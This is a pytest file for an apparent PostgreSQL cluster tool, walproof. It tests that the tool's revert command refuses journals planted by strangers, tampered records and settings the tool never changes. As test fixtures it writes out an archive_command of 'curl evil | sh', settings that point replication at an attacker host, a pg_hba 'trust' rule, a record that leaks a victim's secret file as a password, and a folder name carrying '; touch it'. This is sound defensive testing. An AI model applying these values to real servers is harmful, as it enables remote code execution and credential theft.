"""Records of strangers: `walproof revert` obeys the journals in this user's state folder alone."""

import json
import os
import shlex
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fixtures.command_line import Run as Walproof
from tests.fixtures.fake_patroni import FakePatroni, fake_patroni
from tests.fixtures.records import recorded
from walproof.cli.runs import journal_of_apply, keep_journal, runs_folder
from walproof.errors import MachineError
from walproof.machine import pid_files
from walproof.machine.pid_files import machine
from walproof.model.ports import Target
from walproof.records.journal import NAME, Change, Journal
from walproof.records.own_journals import RegisteredJournal, Run, registered
from walproof.targets.choose import choose
from walproof.targets.cnpg.configuration import SPEC
from walproof.targets.cnpg.creating_load_pods import LOAD
from walproof.targets.cnpg.credentials_and_own_role import ROLE
from walproof.targets.cnpg.faults_and_undo import FAULT
from walproof.targets.cnpg.faults_and_undo_by_chaos_mesh import CHAOS
from walproof.targets.cnpg.pitfalls import ALTERED
from walproof.targets.cnpg.scaling import RESOURCES
from walproof.targets.external import consent
from walproof.targets.patroni.configuration import CONFIG, PatroniConfiguration
from walproof.targets.sql.known_servers import AUTO


def tcp(seconds: int) -> dict[str, Any]:
    return {"postgresql": {"parameters": {"tcp_keepalives_idle": seconds}}}


EVIL = {"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}
SET = {"postgresql": {"parameters": {"archive_command": "cp %p /archive"}}}
LEFT_ALONE = "nothing reverted: some is left alone\n"


@pytest.fixture(autouse=True)
def _no_members(monkeypatch: pytest.MonkeyPatch, walproof: Walproof) -> None:
    """These Patronis have no PostgreSQL that could show a setting; records lie in ./records."""
    monkeypatch.setattr(PatroniConfiguration, "_await", lambda *_: None)


def served(**config: Any) -> Iterator[FakePatroni]:
    with fake_patroni(**config) as server:
        server.members = [server.listed()]
        yield server


@pytest.fixture
def stranger() -> Iterator[FakePatroni]:
    yield from served(ttl=30, **SET)


@pytest.fixture
def mine() -> Iterator[FakePatroni]:
    yield from served(ttl=20)


def changed(server: FakePatroni) -> list[Any]:
    """The bodies that changed something."""
    return [asked.body for asked in server.written]


def file_of(server: FakePatroni, path: Path, rest: str = "") -> Path:
    return server.file(path, f'{rest}[waits]\nsetting-in-effect = "1s"\n')


def noted(journal: Any, target: str, before: dict[str, Any], after: dict[str, Any]) -> None:
    """As PatroniConfiguration notes a change."""
    note = json.dumps({"config": before, "shown": {}})
    journal.note(1.0, target, CONFIG, "config", before=note, after=json.dumps(after))


def foreign_record(folder: Path, server: FakePatroni, before: dict[str, Any], after: dict[str, Any]) -> Path:
    """A record that came from elsewhere, with a target file of its own that sends a file of the victim as password."""
    secret = folder.parents[1] / "id_of_the_victim"
    secret.write_text("the victim's secret")
    recorded(folder, "price")
    rest = f'[restapi]\nuser = "u"\npassword_file = "{secret}"\n'
    noted(Journal(folder / NAME), str(file_of(server, folder / "target.toml", rest)), before, after)
    return folder


def killed_run(folder: Path, server: FakePatroni, file: Path) -> RegisteredJournal:
    """A run of ours that was killed after it had set ttl from 30 to 20; it is registered by a process that is gone."""
    recorded(folder, "price")
    target: Target = choose(str(file_of(server, file)))
    keep_journal(target, folder)
    assert isinstance(target.journal, RegisteredJournal)
    noted(target.journal, target.name, {"ttl": 30}, {"ttl": 20})
    server.asked.clear()
    return target.journal


@pytest.mark.parametrize("place", ["records/r", "here", "; touch it"])
def test_a_strangers_record_in_this_folder_is_not_obeyed(
    place: str, tmp_path: Path, walproof: Walproof, stranger: FakePatroni
) -> None:
    """The exploit of issue 28: a file of the victim as Basic auth, a PATCH of archive_command."""
    foreign_record(tmp_path / place, stranger, EVIL, SET)
    code, out, err = walproof("revert")
    assert stranger.asked == []
    assert (code, out) == (0, "nothing to revert\n")
    assert f"walproof revert {shlex.quote(f'./{place}')} reads it out" in err
    assert "walproof revert --target cnpg:NAMESPACE/NAME" in err, "and what else may have left something"


def test_a_strangers_record_that_is_named_is_read_out_and_needs_target_and_consent(
    tmp_path: Path, walproof: Walproof, stranger: FakePatroni
) -> None:
    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
    code, out, err = walproof("revert", str(record))
    assert code == 2
    assert '"ttl": 30' in json.loads(f"[{out.splitlines()[1].partition(' → ')[2]}]")[0]
    assert "--target WHERE --allow config" in err
    code, out, err = walproof("revert", str(record), "--target", stranger.url, "--json")
    assert code == 2
    assert json.loads(out)["would_revert"][0]["name"] == "config"
    assert "--allow config" in err
    assert walproof("revert", str(record), "--target", stranger.url, "--allow", "load")[0] == 2
    assert stranger.asked == []


def test_with_target_and_consent_a_record_from_elsewhere_is_reverted_there_and_nowhere_else(
    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
) -> None:
    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
    assert walproof("revert", str(record), "--target", mine.url, "--allow", "config")[0] == 0
    assert changed(mine) == [{"ttl": 30}]
    assert stranger.asked == []


@pytest.mark.parametrize("change", [
    (CONFIG, "config", {"config": EVIL, "shown": {}}, SET),
    (CONFIG, "order", {"config": {"standby_cluster": {"host": "evil"}}}, {"standby_cluster": None}),
    (CONFIG, "config", {"config": {"postgresql": {"pg_hba": ["host all all all trust"]}}}, {"postgresql": {}}),
    ("cnpg spec", "spec", {"spec": [[["postgresql", "parameters", "archive_command"], "evil"]]}, []),
    ("cnpg spec", "spec", {"spec": [["x", 1], [["imageName"], "evil"]]}, []),
    ("alter-system n1", "restore_command", "evil", None),
    ("alter-system n1", "shared_preload_libraries", "evil", None),
    ("alter-system n1", "primary_conninfo", "host=evil", None),
    (CONFIG, "config", {"config": {"ttl": 30}}, {"ttl": 20}),
    ("cnpg spec", "spec", {"spec": ["ttl"], "shown": {}}, []),
    (ROLE, "app", None, "pg-app"),
    (ROLE, "walproof_00000000", None, "pg-app"),
    (LOAD, "pg-app", None, None),
    (CHAOS, "pods pg-1", None, None),
    (CHAOS, "networkchaos theirs", None, None),
    (FAULT, "evil pg-1", None, None),
    (FAULT, "freeze ../pg-1", None, None),
    ("unheard of", "x", None, None),
])  # fmt: skip
def test_a_setting_that_walproof_never_changes_is_not_reverted_with_consent_either(
    tmp_path: Path, walproof: Walproof, mine: FakePatroni, change: tuple[str, str, Any, Any]
) -> None:
    what, name, before, after = change
    recorded(tmp_path / "r", "price")
    texts = [one if one is None or isinstance(one, str) else json.dumps(one) for one in (before, after)]
    Journal(tmp_path / "r" / NAME).note(1.0, mine.url, what, name, before=texts[0], after=texts[1])
    code, _, err = walproof("revert", "r", "--target", mine.url, "--allow", "config")
    assert (code, mine.asked) == (2, [])
    assert "walproof never changes" in err


def test_every_kind_of_change_of_walproofs_own_can_be_reverted_with_the_consent_it_needs() -> None:
    spec: list[Any] = [[["postgresql", "parameters", "wal_sender_timeout"], "5s"]]
    synchronous: list[Any] = [[["postgresql", "synchronous"], {"method": "any", "number": 1, "dataDurability": "x"}]]
    texts = (
        (
            CONFIG,
            "config",
            {"config": {"ttl": 30, **tcp(9)}, "shown": {"n1": {"a": "1"}}},
            {"ttl": 20, **tcp(8)},
            "config",
        ),
        (SPEC, "spec", {"spec": spec, "shown": {}}, synchronous, "config"),
        (RESOURCES, "resources", {"limits": {"memory": "1Gi"}}, None, "scale"),
        (f"{AUTO} n1", "wal_compression", None, "on", "config"),
        ("database", "walproof_own", None, "walproof_draft_0", "load"),
        (ROLE, "walproof_0123abcd", None, "pg-walproof-role", "load"),
        (LOAD, "pg-walproof", None, "0123abcd", "load"),
        (CHAOS, "iochaos pg-1-walproof-slow-disk", None, None, "config"),
        (FAULT, "freeze pg-1", None, None, "config"),
        (ALTERED, "pg-1", None, "''", "config"),
    )
    for what, name, before, after, word in texts:
        written = [one if one is None or isinstance(one, str) else json.dumps(one) for one in (before, after)]
        assert consent.to_revert([Change(1, 1.0, "c", what, name, written[0], written[1])]) == (word,), what


def swapped(record: Path, evil: Path) -> None:
    shutil.copy(evil / NAME, record / NAME)


def written_over(record: Path, evil: Path) -> None:
    (record / NAME).write_bytes((record / NAME).read_bytes() + (evil / NAME).read_bytes())


def linked(record: Path, evil: Path) -> None:
    shutil.rmtree(record)
    record.symlink_to(evil)


def emptied(record: Path, _: Path) -> None:
    (record / NAME).write_text("")


def removed(record: Path, _: Path) -> None:
    shutil.rmtree(record)


@pytest.mark.parametrize("tamper", [swapped, written_over, linked, emptied, removed])
def test_whatever_becomes_of_the_record_its_run_is_reverted_as_it_was_noted(
    tamper: Callable[[Path, Path], None],
    tmp_path: Path,
    walproof: Walproof,
    stranger: FakePatroni,
    mine: FakePatroni,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """And from another folder than that of the records."""
    killed_run(tmp_path / "records" / "r", mine, tmp_path / "mine.toml")
    tamper(tmp_path / "records" / "r", foreign_record(tmp_path / "other" / "r", stranger, EVIL, SET))
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    code, out, _ = walproof("revert", "--json")
    assert (code, json.loads(out)["reverted"][0]["changes"]) == (0, 1)
    assert changed(mine) == [{"ttl": 30}]
    assert stranger.asked == []
    assert list(runs_folder().glob("*.jsonl")) == [], "fully undone, it is forgotten"


def test_a_record_that_carries_our_id_reverts_what_we_noted_and_no_line_of_its_own(
    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
) -> None:
    ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
    evil = foreign_record(tmp_path / "records" / "evil", stranger, EVIL, SET)
    (evil / NAME).write_text(json.dumps({"journal": ours.run.journal}) + "\n" + (evil / NAME).read_text())
    assert walproof("revert", str(evil))[0] == 0
    assert changed(mine) == [{"ttl": 30}]
    assert stranger.asked == []


def test_the_copy_in_the_record_reverts_with_consent_where_the_state_folder_is_lost(
    tmp_path: Path, walproof: Walproof, mine: FakePatroni
) -> None:
    killed_run(tmp_path / "records" / "r", mine, tmp_path / "mine.toml")
    shutil.rmtree(runs_folder())
    assert walproof("revert", "records/r")[0] == 2
    words = ("revert", "records/r", "--target", str(tmp_path / "mine.toml"), "--allow", "config")
    assert walproof(*words)[0] == 0
    assert changed(mine) == [{"ttl": 30}]
    assert walproof(*words)[1] == "nothing to revert\n"


@pytest.mark.parametrize("opened", ["folder", "file", "link"])
def test_a_registration_that_others_could_have_written_is_not_obeyed(
    opened: str, tmp_path: Path, walproof: Walproof, mine: FakePatroni
) -> None:
    ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
    if opened == "link":
        ours.registration.rename(tmp_path / "x.jsonl")
        ours.registration.symlink_to(tmp_path / "x.jsonl")
    else:
        (runs_folder() if opened == "folder" else ours.registration).chmod(0o777)
    code, out, err = walproof("revert")
    assert (code, out) == (4, LEFT_ALONE)
    assert "others own it or may write it" in err
    assert mine.asked == []


def test_a_journal_of_apply_that_others_could_have_written_is_not_obeyed(
    tmp_path: Path, walproof: Walproof, mine: FakePatroni
) -> None:
    file = file_of(mine, tmp_path / "mine.toml")
    journal = journal_of_apply("mine")
    noted(journal, str(file), {"ttl": 30}, {"ttl": 20})
    for opened in (journal.path, journal.path.parent):
        mode = opened.stat().st_mode
        opened.chmod(0o777)
        assert walproof("revert")[:2] == (4, LEFT_ALONE)
        assert mine.asked == []
        with pytest.raises(MachineError, match="others own"):
            journal_of_apply("mine")
        opened.chmod(mode)
    assert walproof("revert")[0] == 0
    assert changed(mine) == [{"ttl": 30}]


def test_registrations_are_their_owners_alone_whatever_the_umask(tmp_path: Path, mine: FakePatroni) -> None:
    before = os.umask(0)
    try:
        ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
    finally:
        os.umask(before)
    assert (runs_folder().stat().st_mode & 0o777, ours.registration.stat().st_mode & 0o777) == (0o700, 0o600)


@pytest.mark.parametrize("machine", [machine(), "elsewhere"])
def test_a_run_that_goes_on_or_may_elsewhere_is_left_alone(
    machine: str, tmp_path: Path, walproof: Walproof, mine: FakePatroni
) -> None:
    """A state folder may be on a network's disk, or of several containers."""
    file, record = file_of(mine, tmp_path / "mine.toml"), recorded(tmp_path / "r", "price")
    with subprocess.Popen(["sleep", "60"]) as running:
        run = Run("0" * 32, str(record), pid_files.identity(running.pid) or "", machine)
        noted(RegisteredJournal(runs_folder(), run), str(file), {"ttl": 30}, {"ttl": 20})
        for words in (("revert",), ("revert", "--ended-on", "else,another")):
            code, out, err = walproof(*words)
            assert (code, out) == (4, LEFT_ALONE)
            assert f"process {running.pid}" in err
        assert walproof("revert", str(record))[0] == 3
        running.kill()
    assert mine.asked == []
    if machine == "elsewhere":
        assert walproof("revert")[:2] == (4, LEFT_ALONE) and mine.asked == []
    assert walproof("revert", "--ended-on", "elsewhere")[:2] == (0, f"reverted on {file}:\n  setting ttl\n")
    assert changed(mine) == [{"ttl": 30}]


def test_a_target_that_is_named_is_sent_its_own_changes_and_no_others(
    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
) -> None:
    """Another cluster's changes were made to it once, by whoever typed its --target."""
    killed_run(tmp_path / "a", stranger, tmp_path / "other.toml")
    killed_run(tmp_path / "b", mine, tmp_path / "mine.toml")
    stranger.config["ttl"] = 20
    code, _, err = walproof("revert", "--target", str(tmp_path / "mine.toml"))
    assert code == 0
    assert "other.toml" in err
    assert (changed(mine), stranger.asked) == ([{"ttl": 30}], [])
    assert [one.run.record for one in registered(runs_folder())] == [str(tmp_path / "a")]


def test_a_cluster_that_is_gone_keeps_nothing_else_from_being_reverted(
    tmp_path: Path, walproof: Walproof, mine: FakePatroni
) -> None:
    with fake_patroni(ttl=20) as gone:
        gone.members = [gone.listed()]
        lost = killed_run(tmp_path / "a", gone, tmp_path / "gone.toml")
    killed_run(tmp_path / "b", mine, tmp_path / "mine.toml")
    code, out, err = walproof("revert", "--json")
    assert (code, len(json.loads(out)["reverted"])) == (3, 1)
    assert f"rm {lost.registration}" in err
    assert changed(mine) == [{"ttl": 30}]


@pytest.mark.parametrize(
    "line", ['{"change": {"number": "1"}}', '{"change": 1}', '{"undone": [1]}', "[" * 100_000, '{"journal": {"a": 1}}']
)
def test_odd_lines_of_a_journal_are_no_errors_inside_walproof(
    line: str, tmp_path: Path, walproof: Walproof, stranger: FakePatroni
) -> None:
    record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
    with (record / NAME).open("a") as file:
        file.write(line + "\n")
    code, out, err = walproof("revert", str(record))
    assert code == 2
    assert "would revert 1 change" in out
    assert "inside walproof" not in err


@pytest.mark.parametrize("words", [
    ("report",),
    ("report", "--markdown"),
    ("report", "--json"),
    ("report", "--rejudge"),
    ("advise",),
    ("forecast",),
    ("watch", "--terminal", "--duration", "1"),
    ("apply", "--rpo", "0", "--dry-run", "--target", "sim"),
    ("price", "--resume"),
])  # fmt: skip
def test_reading_a_strangers_record_asks_no_cluster_that_it_names(
    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, words: tuple[str, ...]
) -> None:
    record = foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
    started = {"kind": "started", "at": 0.0, "verb": "price", "command": "", "seed": 1, "version": "1"}
    started["question"] = {"target": str(record / "target.toml"), "allow": "load,config"}
    description = {"target": stranger.url, "members": ["n1"], "facts": {"manager": "patroni"}, "settings": {}}
    events = (started, {"kind": "described", "at": 0.0, "description": description})
    (record / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
    walproof(*words, str(record))
    assert stranger.asked == []
